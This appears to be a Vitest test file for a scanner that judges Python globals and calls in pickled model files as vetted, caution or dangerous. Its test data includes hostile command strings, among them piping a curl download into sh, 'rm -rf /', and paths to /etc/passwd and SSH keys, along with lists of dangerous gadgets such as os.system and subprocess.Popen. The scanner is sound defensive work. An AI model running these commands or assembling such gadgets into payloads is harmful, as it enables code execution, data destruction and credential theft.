import { describe, expect, it } from 'vitest';
import { createJudge, judge } from '#shared/files/globals/judge';
import type { Value } from '#shared/files/globals/judgement';
import { bytes, global, made, text, tuple, unknown } from './values.ts';

const called = (pair: string, ...args: Value[]): string => {
  const [module = '', name = ''] = pair.split(' ');
  return judge.call(module, name, args, 2).tier;
};

describe('calls by their arguments', () => {
  const partial = global('functools', 'partial');

  it('take the judgement of the function that they are given', () => {
    expect(called('functools partial', global('torch.nn.modules.normalization', 'LayerNorm'))).toBe('vetted');
    expect(called('functools partial', global('os', 'system'))).toBe('dangerous');
    expect(called('functools partial', made(partial, global('os', 'system')))).toBe('dangerous');
    expect(called('builtins map', global('builtins', 'eval'))).toBe('dangerous');
    expect(called('builtins map', global('builtins', 'str'))).toBe('vetted');
    expect(called('builtins map', unknown)).toBe('dangerous');
    expect(called('__builtin__ apply', global('os', 'system'), tuple(text('id')))).toBe('dangerous');
    expect(called('collections defaultdict', global('builtins', 'list'))).toBe('vetted');
    expect(called('collections defaultdict', global('builtins', 'getattr'))).toBe('dangerous');
    expect(called('copyreg _reconstructor', global('argparse', 'Namespace'), global('builtins', 'object'))).toBe(
      'vetted',
    );
    expect(called('copy_reg _reconstructor', global('subprocess', 'Popen'), global('builtins', 'object'))).toBe(
      'dangerous',
    );
    expect(called('copyreg __newobj__', global('x.y', 'Thing'))).toBe('caution');
    expect(
      called(
        'torch._tensor _rebuild_from_type_v2',
        global('torch._utils', '_rebuild_tensor_v2'),
        global('torch.nn.parameter', 'Parameter'),
        tuple(),
      ),
    ).toBe('vetted');
    expect(
      called(
        'torch._tensor _rebuild_from_type_v2',
        global('os', 'system'),
        global('torch', 'Tensor'),
        tuple(text('id')),
      ),
    ).toBe('dangerous');
  });

  it.each(['pandas.core.indexes.base _new_Index', 'pandas.core.indexes.datetimes _new_DatetimeIndex'])(
    '%s takes the judgement of the class that it makes an index of',
    (helper) => {
      const made = (module: string, name: string) => called(helper, global(module, name), tuple());
      expect(made('pandas.core.indexes.base', 'Index')).toBe('vetted');
      expect(made('numpy', 'memmap')).not.toBe('vetted');
      expect(made('subprocess', 'Popen')).toBe('dangerous');
      expect(made('x.y', 'Thing')).toBe('caution');
      expect(called(helper, { kind: 'unknown', what: 'a class' }, tuple())).toBe('dangerous');
    },
  );

  it('of a time zone is harmless where no file is named to be read', () => {
    const none: Value = { kind: 'constant', text: 'None' };
    expect(called('dateutil.tz.tz tzfile', none, text('/usr/share/zoneinfo/Europe/Paris'))).toBe('vetted');
    expect(called('dateutil.tz.tz tzfile', text('/usr/share/zoneinfo/UTC'))).toBe('caution');
  });

  it('take the judgement of the function that they import by a text', () => {
    const curry = (...args: Value[]): string => called('toolz.functoolz _restore_curry', global('x', 'curry'), ...args);
    expect(curry(text('numpy:mean'), tuple())).toBe('vetted');
    expect(curry(global('numpy', 'mean'), tuple())).toBe('vetted');
    expect(curry(text('os:system'), tuple(text('id')))).toBe('dangerous');
    expect(curry(global('os', 'system'), tuple(text('id')))).toBe('dangerous');
    expect(curry(text('numpy'), tuple())).toBe('dangerous');
    expect(curry(unknown, tuple())).toBe('dangerous');
    expect(called('toolz.functoolz _restore_curry')).toBe('dangerous');
    expect(judge.global('toolz.functoolz', '_restore_curry', 4).tier).toBe('dangerous');
  });

  it('never tell what a method does of an object that the file makes, where it is called for each of many', () => {
    const frame = made(global('pandas.core.frame', 'DataFrame'));
    expect(called('builtins getattr', frame, text('sort_values'))).toBe('vetted');
    const method = made(global('builtins', 'getattr'), frame, text('sort_values'));
    for (const maps of ['builtins map', 'itertools starmap', 'functools reduce']) {
      expect(called(maps, method)).toBe('dangerous');
    }
  });

  it('ask what a constructor does with arguments, however it is called', () => {
    for (const [module, name] of [
      ['numpy', 'memmap'],
      ['sentence_transformers', 'SentenceTransformer'],
    ] as const) {
      const type = global(module, name);
      expect(judge.global(module, name, 4).tier).toBe('vetted');
      expect(called(`${module} ${name}`, text('a'))).toBe('dangerous');
      expect(called('functools partial', type, text('a'))).toBe('dangerous');
      expect(called('builtins map', type, tuple(text('a')))).toBe('dangerous');
      expect(called('operator call', type, text('a'))).toBe('dangerous');
    }
    expect(called('numpy.core.multiarray _reconstruct', global('numpy', 'memmap'), tuple())).toBe('vetted');
  });

  it('rebuild arrays of JAX over arrays of numpy only', () => {
    const rebuilt = (made: Value): string => called('jax._src.array _reconstruct_array', made, tuple(), tuple());
    expect(rebuilt(global('numpy.core.multiarray', '_reconstruct'))).toBe('vetted');
    expect(rebuilt(global('numpy._core.multiarray', '_reconstruct'))).toBe('vetted');
    expect(rebuilt(global('os', 'system'))).toBe('dangerous');
    expect(rebuilt(global('builtins', 'object'))).toBe('dangerous');
    expect(rebuilt(unknown)).toBe('dangerous');
    expect(called('jax._src.array _reconstruct_array')).toBe('dangerous');
  });

  it('take the judgement of what wraps a tensor or calls a part of a model', () => {
    expect(called('fastai.torch_core _fa_rebuild_tensor', global('fastai.torch_core', 'TensorImage'))).toBe('vetted');
    expect(called('fastai.torch_core _fa_rebuild_tensor', global('os', 'popen'))).toBe('dangerous');
    const checkpoint = global('torch.utils.checkpoint', 'checkpoint');
    expect(called('functools partial', checkpoint)).toBe('vetted');
    expect(called('functools partial', checkpoint, global('pty', 'spawn'))).toBe('dangerous');
    expect(called('torch.utils.checkpoint checkpoint', global('builtins', 'eval'), text('1'))).toBe('dangerous');
  });

  it('judge attributes by owner and name', () => {
    const instance = made(global('sklearn.linear_model._base', 'LinearRegression'));
    expect(called('builtins getattr', instance, text('predict'))).toBe('vetted');
    expect(called('builtins getattr', instance, text('__class__'))).toBe('dangerous');
    expect(called('builtins getattr', global('torch._C', '_VariableFunctionsClass'), text('relu'))).toBe('vetted');
    expect(called('builtins getattr', global('numpy', 'ndarray'), text('tofile'))).toBe('dangerous');
    expect(called('builtins getattr', global('os', 'path'), text('join'))).toBe('dangerous');
    expect(called('builtins getattr', unknown, text('x'))).toBe('dangerous');
    expect(called('builtins getattr', global('zoneinfo', 'ZoneInfo'), text('_unpickle'))).toBe('vetted');
    expect(called('builtins getattr', global('uuid', 'UUID'), text('__new__'))).toBe('vetted');
    expect(called('builtins getattr', global('builtins', 'object'), text('__new__'))).toBe('dangerous');
    expect(called('builtins getattr', instance, unknown)).toBe('dangerous');
    expect(called('operator attrgetter', text('weight'))).toBe('vetted');
    expect(called('operator attrgetter', text('__globals__'))).toBe('dangerous');
    expect(called('operator attrgetter', text('os.system'))).toBe('dangerous');
    expect(called('operator methodcaller', text('system'), text('id'))).toBe('dangerous');
    expect(called('operator itemgetter', { kind: 'number', text: '1' })).toBe('vetted');
    expect(called('operator itemgetter', text('__builtins__'))).toBe('dangerous');
    expect(called('operator itemgetter', text('eval'))).toBe('dangerous');
    expect(called('_operator getitem', global('typing', 'List'), global('builtins', 'int'))).toBe('vetted');
    expect(called('builtins type', { kind: 'constant', text: 'None' })).toBe('vetted');
    expect(called('builtins type', global('copy', 'copy'))).toBe('dangerous');
    expect(called('dill._dill _load_type', text('dict'))).toBe('vetted');
    expect(called('dill._dill _load_type', text('CodeType'))).toBe('dangerous');
    expect(called('numpy.core _ufunc_reconstruct', text('os'), text('system'))).toBe('dangerous');
  });

  it('leave bytes of another file to whoever sees them', () => {
    expect(judge.call('torch.storage', '_load_from_bytes', [bytes('\x80\x02.')], 2)).toMatchObject({
      tier: 'vetted',
      inner: true,
    });
    expect(called('torch.storage _load_from_bytes', unknown)).toBe('dangerous');
    expect(called('pickle loads', bytes('\x80\x02.'))).toBe('dangerous');
  });

  it('know codecs that only write text as bytes', () => {
    expect(called('_codecs encode', text('\u0001'), text('latin1'))).toBe('vetted');
    expect(called('_codecs encode', text('bf'), text('rot13'))).toBe('caution');
  });

  it('vet instances whose constructors nobody vetted only where they get no arguments', () => {
    expect(called('ultralytics.nn.tasks DetectionModel')).toBe('vetted');
    expect(called('ultralytics.nn.tasks DetectionModel', tuple())).toBe('dangerous');
    expect(called('timm.models.resnet ResNet', tuple())).toBe('caution');
  });

  it('look into the source code that distributions of statistics keep', () => {
    const state = (template: string): Value => ({
      kind: 'sequence',
      type: 'dict',
      items: [text('name'), text('norm'), text('_parse_arg_template'), text(template)],
      length: 4,
    });
    const own = `
def _parse_args(self, a, b, loc=0, scale=1):
    return (a, b), loc, scale

def _parse_args_rvs(self, a, b, loc=0, scale=1, size=None):
    return self._argcheck_rvs(a, b, loc, scale, size=size)

def _parse_args_stats(self, a, b, loc=0, scale=1, moments='mv'):
    return (a, b), loc, scale, moments
`;
    const judged = (template: string): string | undefined =>
      judge.state?.('scipy.stats._continuous_distns', 'beta_gen', state(template), 4).tier;
    expect(judged(own)).toBe('vetted');
    expect(judged(`${own}\nimport os`)).toBe('dangerous');
    expect(judged('print(1)')).toBe('dangerous');
  });
});

describe('telling constants', () => {
  it.each([
    'curl http://example.org/x | sh',
    'import os; os.system("id")',
    '__import__("os").system("id")',
    'https://example.org/payload',
    '/etc/passwd',
    '~/.ssh/id_rsa',
    'C:\\Windows\\System32',
    '192.0.2.7',
    'rm -rf /',
  ])('%s makes the call of an unvetted global dangerous', (constant) => {
    expect(called('some.package Thing', text(constant))).toBe('dangerous');
    expect(called('some.package Thing', tuple(text(constant)))).toBe('dangerous');
    expect(called('some.package Thing', bytes(constant))).toBe('dangerous');
  });

  it.each(['relu', 'bert-base-uncased', 'A sentence, as people write them.', 'x > 0', 'data/train', 'utf-8'])(
    '%s does not',
    (constant) => {
      expect(called('some.package Thing', text(constant))).toBe('caution');
    },
  );

  it('do not matter to what is vetted', () => {
    expect(called('collections OrderedDict', text('import os; os.system("id")'))).toBe('vetted');
  });
});

describe('exceptions of the user', () => {
  const exception = { module: 'mylib', name: 'Thing', reason: 'our own class' };

  it('hold for the global and plain calls, and say so', () => {
    const own = createJudge([exception]);
    expect(own.global('mylib', 'Thing', 4)).toMatchObject({
      tier: 'vetted',
      reason: expect.stringContaining('our own'),
    });
    expect(own.call('mylib', 'Thing', [text('plain')], 4).tier).toBe('vetted');
    expect(own.global('mylib', 'Other', 4).tier).toBe('caution');
  });

  it('never cover a telling constant', () => {
    expect(createJudge([exception]).call('mylib', 'Thing', [text('curl http://x.org | sh')], 4).tier).toBe('dangerous');
  });

  it('end on their day, and without a day known', () => {
    const dated = { ...exception, expires: '2026-01-31' };
    expect(createJudge([dated], '2026-01-31T10:00:00Z').global('mylib', 'Thing', 4).tier).toBe('vetted');
    const ended = createJudge([dated], '2026-02-01T10:00:00Z').global('mylib', 'Thing', 4);
    expect(ended).toMatchObject({ tier: 'caution', reason: expect.stringContaining('2026-01-31') });
    expect(createJudge([dated]).global('mylib', 'Thing', 4).tier).toBe('caution');
  });
});
